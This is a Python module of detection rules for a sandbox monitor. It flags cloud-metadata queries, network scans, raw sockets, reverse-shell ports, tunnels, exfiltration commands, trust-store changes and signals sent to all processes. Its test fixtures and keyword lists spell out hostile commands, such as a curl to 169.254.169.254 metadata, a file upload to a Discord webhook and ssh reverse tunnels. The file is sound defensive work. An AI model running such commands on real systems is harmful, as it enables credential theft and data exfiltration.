"""Addresses and sockets, and contact with what is outside this sandbox on the same machine."""

from __future__ import annotations

from typing import Final

from cloche import Act, Count, F, Rule, Severity
from cloche_rules.words import CHANGES, RUN, at, did, hit, miss, ran, runs, says

_TALKS: Final = frozenset({Act.CONNECT, Act.SEND})
_OUT: Final = F.family.one_of(2, 10)
_LOCAL: Final = F.address.startswith("127.") | (F.address == "::1")
_PACKET, _NETLINK, _VSOCK, _BLUETOOTH, _ALG = 17, 16, 40, 31, 38
_RAW: Final = 3
_PINGS: Final = F.protocol.one_of(1, 58)
_NAME_SERVER: Final = 53
_ALL: Final = (-1, 0xFFFFFFFF)
"""The process that kill(2) takes for all."""
_METADATA: Final = ("169.254.169.254", "fd00:ec2::254", "169.254.170.2", "100.100.100.200", "fd20:ce::254")

RULES: Final = (
    Rule(
        id="metadata-service", severity=Severity.HIGH, events=_TALKS,
        summary="the service is asked that gives machines in a cloud their secrets",
        where=F.address.one_of(*_METADATA),
        mode="inline", best_effort=True,
        attack=("T1552.005",), tags=frozenset({"network", "credentials"}),
        message="{address}", hint="give the program the secret that it needs by its environment",
        examples=(
            hit(did("connect", target="169.254.169.254", family=2, port=80)),
            hit(did("connect", target="fd00:ec2::254", family=10, port=80)),
            miss(did("connect", target="151.101.0.223", family=2, port=443)),
        ),
    ),
    Rule(
        id="metadata-command", severity=Severity.MEDIUM, events=RUN,
        summary="a command names the service that gives machines in a cloud their secrets",
        where=says("169.254.169.254", "fd00:ec2::254", "metadata.google.internal", "169.254.170.2", "100.100.100.200",
            "/latest/meta-data", "/computeMetadata/"),
        attack=("T1552.005",), tags=frozenset({"network", "credentials"}),
        message="{cmdline}", hint="give the program the secret that it needs by its environment",
        examples=(
            hit(ran("curl", "http://169.254.169.254/latest/meta-data/")), miss(ran("curl", "http://localhost:8000/")),
        ),
    ),
    Rule(
        id="network-scan", severity=Severity.HIGH, events=_TALKS,
        summary="one program asks many different addresses or ports",
        where=_OUT & ~(F.port == _NAME_SERVER) & ~_LOCAL,
        count=Count(50, per=10, key=("exec",), distinct=("target", "arg1")),
        attack=("T1046", "T1018"), tags=frozenset({"network", "discovery"}),
        message="over 50 different addresses in 10 seconds, the last {address}",
        hint="name the few hosts that are needed",
        examples=(
            hit(*(did("connect", target=f"10.0.0.{n}", family=2, port=22, exec=1, at=n / 100) for n in range(51))),
            miss(*(did("connect", target="151.101.0.223", family=2, port=443, exec=1, at=n / 100) for n in range(51))),
        ),
    ),
    Rule(
        id="local-scan", severity=Severity.MEDIUM, events=_TALKS,
        summary="one process asks many different ports of its own machine",
        where=_OUT & _LOCAL,
        count=Count(60, per=5, key=("pid",), distinct=("target", "arg1")),
        attack=("T1046",), tags=frozenset({"network", "discovery"}),
        message="over 60 different ports in 5 seconds", hint="name the few ports that are needed",
        examples=(
            hit(*(did("connect", target="127.0.0.1", family=2, port=n, pid=7, at=n / 100) for n in range(61))),
            miss(*(did("connect", target="127.0.0.1", family=2, port=80, pid=7, at=n / 100) for n in range(61))),
        ),
    ),
    Rule(
        id="scan-command", severity=Severity.MEDIUM, events=RUN,
        summary="a program that scans or listens to networks is started",
        where=runs("nmap", "masscan", "zmap", "arp-scan", "netdiscover", "fping", "hping3", "unicornscan", "rustscan",
            "tcpdump", "tshark", "dumpcap", "ettercap", "bettercap", "arpspoof", "dsniff", "nbtscan", "smbclient",
            "rpcclient", "showmount", "snmpwalk", "ldapsearch") | says("nc -z", "nc -nv", "ncat -z", "nmap -",
            "ldapsearch -", "tcpdump -", "tshark -"),
        attack=("T1046", "T1018", "T1040"), tags=frozenset({"network", "discovery"}),
        message="{cmdline}", hint="name the few hosts that are needed",
        examples=(hit(ran("nmap", "-sS", "10.0.0.0/24")), miss(ran("nm", "a.out"))),
    ),
    Rule(
        id="raw-socket", severity=Severity.HIGH, events=frozenset({Act.SOCKET}),
        summary="a socket is made that sees or forges packets",
        where=(F.family == _PACKET) | (F.family.one_of(2, 10) & F.type.has(2) & (F.type.has(1) | F.type.has(8))
            & ~F.type.has(4) & ~_PINGS),
        mode="inline",
        attack=("T1040", "T1095"), tags=frozenset({"network", "kernel"}),
        message="family {family}, type {type}", hint="use ordinary connections; ping is not to be had in a sandbox",
        examples=(
            hit(did("socket", family=17, type=3, protocol=0x300)), hit(did("socket", family=2, type=_RAW, protocol=6)),
            hit(did("socket", family=2, type=10, protocol=0)), miss(did("socket", family=2, type=0x80001, protocol=0)),
            miss(did("socket", family=16, type=3, protocol=0)),
        ),
    ),
    Rule(
        id="ping-socket", severity=Severity.LOW, events=frozenset({Act.SOCKET}),
        summary="a socket is made that ping needs, and that sees all answers to it",
        where=F.family.one_of(2, 10) & F.type.has(2) & F.type.has(1) & _PINGS,
        attack=("T1018", "T1095"), tags=frozenset({"network"}),
        message="family {family}, type {type}", hint="use ordinary connections; ping is not to be had in a sandbox",
        examples=(
            hit(did("socket", family=2, type=_RAW, protocol=1)), miss(did("socket", family=2, type=2, protocol=1)),
        ),
    ),
    Rule(
        id="rare-socket", severity=Severity.MEDIUM, events=frozenset({Act.SOCKET}),
        summary="a socket of a family is made that hardly anything uses, and the kernel's faults are in",
        where=F.family.one_of(_VSOCK, _BLUETOOTH, _ALG, 3, 4, 5, 6, 9, 19, 21, 22, 29, 30, 36, 37, 39, 41, 43, 44),
        attack=("T1068", "T1095"), tags=frozenset({"network", "kernel"}),
        message="family {family}", hint="use ordinary connections",
        examples=(hit(did("socket", family=40, type=1, protocol=0)), miss(did("socket", family=1, type=1, protocol=0))),
    ),
    Rule(
        id="odd-port", severity=Severity.LOW, events=_TALKS,
        summary="a connection to a port that shells handed over the network are used to use",
        where=_OUT & F.port.one_of(4444, 4445, 1337, 31337, 5555, 6666, 6667, 9001, 9050, 9051, 4242, 8444),
        attack=("T1571",), tags=frozenset({"network"}),
        message="{address}", hint="use the usual port of the service",
        examples=(
            hit(did("connect", target="10.0.0.1", family=2, port=4444)),
            miss(did("connect", target="10.0.0.1", family=2, port=443)),
        ),
    ),
    Rule(
        id="listens-everywhere", severity=Severity.INFO, events=frozenset({Act.BIND}),
        summary="a program waits for connections from everywhere",
        where=F.address.one_of("0.0.0.0", "::") & (F.port >= 1),
        attack=("T1571",), tags=frozenset({"network"}),
        message="{address}", hint="bind to 127.0.0.1",
        examples=(
            hit(did("bind", target="0.0.0.0", family=2, port=8080)),
            miss(did("bind", target="127.0.0.1", family=2, port=8080)),
        ),
    ),
    Rule(
        id="name-server-flood", severity=Severity.MEDIUM, events=_TALKS,
        summary="a name server is asked over and over, as tunnels through it do",
        where=F.port == _NAME_SERVER,
        count=Count(500, per=10, key=("exec",)),
        attack=("T1071.004", "T1048"), tags=frozenset({"network"}),
        message="over 500 in 10 seconds to {address}", hint="keep the answers",
        examples=(
            hit(*(did("connect", target="10.0.0.53", family=2, port=53, exec=1, at=n / 100) for n in range(501))),
            miss(*(did("connect", target="10.0.0.53", family=2, port=53, exec=1, at=n) for n in range(9))),
        ),
    ),
    Rule(
        id="tunnel-command", severity=Severity.MEDIUM, events=RUN,
        summary="a program that makes tunnels or proxies is started",
        where=runs("ngrok", "chisel", "cloudflared", "frpc", "frps", "devtunnel", "iodine", "dnscat", "dnscat2",
            "proxychains", "proxychains4", "tor", "torsocks", "stunnel", "stunnel4", "sshuttle", "gost", "ptunnel")
        | (runs("ssh") & F.argv.one_of("-R", "-D", "-w")) | says("hooks.slack.com/", "discord.com/api/webhooks",
            "api.telegram.org/bot", "pastebin.com/", "paste.rs", "transfer.sh", "ngrok.io", "webhook.site",
            "requestbin", "oast."),
        attack=("T1572", "T1090", "T1567"), tags=frozenset({"network"}),
        message="{cmdline}", hint="bring files in and out from outside: box.files",
        examples=(
            hit(ran("ssh", "-R", "8080:localhost:80", "x")),
            hit(ran("curl", "-F", "f=@x", "https://discord.com/api/webhooks/1/y")), miss(ran("ssh", "x", "ls")),
        ),
    ),
    Rule(
        id="send-out-command", severity=Severity.MEDIUM, events=RUN,
        summary="a command sends files or its input out by a web request or a shell elsewhere",
        where=(runs("curl", "wget") & says("--data-binary @", "--post-data", "--post-file", " -F ", "--upload-file",
                " -T ", "-d @", " -X POST", "-XPOST", "--data @", "--data ")) | (runs("ssh", "sh", "bash", "dash")
            & says("| ssh ", "cat > /", "tar -zc", "tar czpf - ", "tar -cz")) | (runs("rsync", "scp", "sftp", "rclone")
            & says("@", "://")),
        attack=("T1048", "T1041", "T1567"), tags=frozenset({"network"}),
        message="{cmdline}", hint="take files out from outside: box.files",
        examples=(
            hit(ran("curl", "-F", "file=@x", "https://x")), hit(ran("scp", "x", "me@there:")),
            miss(ran("curl", "-sSL", "https://x")),
        ),
    ),
    Rule(
        id="trust-changed", severity=Severity.HIGH, events=CHANGES,
        summary="whom the machine trusts is changed: certificates, names of hosts, package sources",
        where=at("/etc/ssl/certs/**", "/usr/local/share/ca-certificates/**", "/etc/pki/**",
            "/usr/share/ca-certificates/**", "/etc/ca-certificates*", "/etc/ca-certificates/**", "/etc/hosts",
            "/etc/resolv.conf", "/etc/apt/sources.list", "/etc/apt/sources.list.d/**", "/etc/apt/trusted.gpg.d/**",
            "/etc/yum.repos.d/**"),
        mode="inline", best_effort=True,
        attack=("T1553.004", "T1565.001"), tags=frozenset({"persistence", "network"}),
        message="{file} is changed", hint="give the program its own list (SSL_CERT_FILE, --cacert, --resolve)",
        examples=(
            hit(did("create", "/usr/local/share/ca-certificates/x.crt")),
            miss(did("symlink", "/workspace/ca.crt", "/etc/ssl/certs/ca.crt", call="symlink")),
            miss(did("create", "/workspace/venv/lib/certifi/cacert.pem")),
        ),
    ),
    Rule(
        id="trust-command", severity=Severity.MEDIUM, events=RUN,
        summary="a command that changes which certificates are trusted",
        where=runs("update-ca-certificates", "update-ca-trust", "certutil", "trust") | says("/ca-certificates",
            "ca-trust"),
        attack=("T1553.004",), tags=frozenset({"persistence"}),
        message="{cmdline}", hint="give the program its own list (SSL_CERT_FILE, --cacert)",
        examples=(hit(ran("update-ca-certificates")), miss(ran("openssl", "version"))),
    ),
    Rule(
        id="abstract-socket", severity=Severity.LOW, events=_TALKS | {Act.BIND},
        summary="a socket without a file is spoken to, which folders don't keep apart",
        where=(F.family == 1) & F.address.startswith("@"),
        attack=("T1559",), tags=frozenset({"neighbours", "network"}),
        message="{address}", hint="use a socket with a file in your folder",
        examples=(
            hit(did("connect", target="@/tmp/.X11-unix/X0", family=1, port=0)),
            miss(did("connect", target="/workspace/x.sock", family=1, port=0)),
        ),
    ),
    Rule(
        id="shared-memory-names", severity=Severity.LOW, events=frozenset({Act.CREATE, Act.WRITE_OPEN, Act.LINK,
                Act.RENAME}),
        summary="a file in shared memory is made by a name that neighbours would find",
        where=F.file.glob("/dev/shm/*", "/dev/mqueue/*") & ~F.file.glob("/dev/shm/sem.*", "/dev/shm/psm_*",
            "/dev/shm/pym-*", "/dev/shm/torch_*", "/dev/shm/.org.chromium.*", "/dev/shm/mono.*", "/dev/shm/joblib*",
            "/dev/shm/[A-Za-z0-9][A-Za-z0-9][A-Za-z0-9][A-Za-z0-9][A-Za-z0-9][A-Za-z0-9]"),
        attack=("T1559",), tags=frozenset({"neighbours"}),
        message="{file}", hint="use files in your folder",
        examples=(
            hit(did("create", "/dev/shm/meeting-point")), miss(did("create", "/dev/shm/psm_1a2b")),
            miss(did("create", "/workspace/x")),
        ),
    ),
    Rule(
        id="signal-to-all", severity=Severity.HIGH, events=frozenset({Act.SIGNAL}),
        summary="a signal is sent to everything that can be reached",
        where=F.process.one_of(*_ALL),
        mode="inline",
        attack=("T1489",), tags=frozenset({"neighbours"}),
        message="signal {signal} to all", hint="end your own programs, by their pid",
        examples=(hit(did("signal", process=0xFFFFFFFF, signal=9)), miss(did("signal", process=77, signal=15))),
    ),
    Rule(
        id="signal-to-first", severity=Severity.MEDIUM, events=frozenset({Act.SIGNAL}),
        summary="a signal is sent to process 1, which holds the sandbox",
        where=(F.process == 1) & ~(F.signal == 0),
        attack=("T1489",), tags=frozenset({"neighbours"}),
        message="signal {signal} to process 1", hint="end your own programs, by their pid",
        examples=(hit(did("signal", process=1, signal=9)), miss(did("signal", process=1, signal=0))),
    ),
    Rule(
        id="host-folder-escape", severity=Severity.MEDIUM, events=CHANGES,
        summary="a folder that the caller shows is given links or devices that lead elsewhere",
        where=F.file.under("${mounted}") & F.to.under("/proc", "/sys", "/dev", "/etc", "/root", "/home")
        & ~F.to.under("${mounted}", "${home}"),
        attack=("T1611", "T1080"), tags=frozenset({"neighbours", "files"}),
        message="{file} -> {to}", hint="copy the file instead of a link",
        examples=(
            hit(did("symlink", "/data/x", "/etc/hostname"), mounted=["/data"]),
            miss(did("symlink", "/data/x", "/data/y"), mounted=["/data"]),
        ),
    ),
)  # fmt: skip
